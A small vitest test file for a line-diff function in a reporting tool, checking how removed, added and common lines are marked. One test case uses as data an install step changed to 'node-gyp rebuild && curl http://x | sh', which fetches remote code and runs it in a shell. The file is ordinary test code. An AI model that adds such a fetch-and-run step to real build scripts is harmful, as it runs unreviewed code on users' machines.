import { describe, expect, it } from 'vitest';
import { diffLines } from '../../src/report/line-diff.js';

const show = (before: string, after: string): string => diffLines(before, after).map((line) => `${line.op}${line.text}`).join('|');

describe('diffLines', () => {
  it('keeps common lines and marks removed and added ones', () => {
    expect(show('a\nb\nc', 'a\nx\nc')).toBe(' a|-b|+x| c');
    expect(show('node-gyp rebuild', 'node-gyp rebuild && curl http://x | sh')).toBe('-node-gyp rebuild|+node-gyp rebuild && curl http://x | sh');
    expect(show('a\nb', 'a\nb\nc')).toBe(' a| b|+c');
    expect(show('a\nb\nc', 'c')).toBe('-a|-b| c');
  });

  it('is the identity for equal texts', () => {
    expect(show('x\ny', 'x\ny')).toBe(' x| y');
  });
});
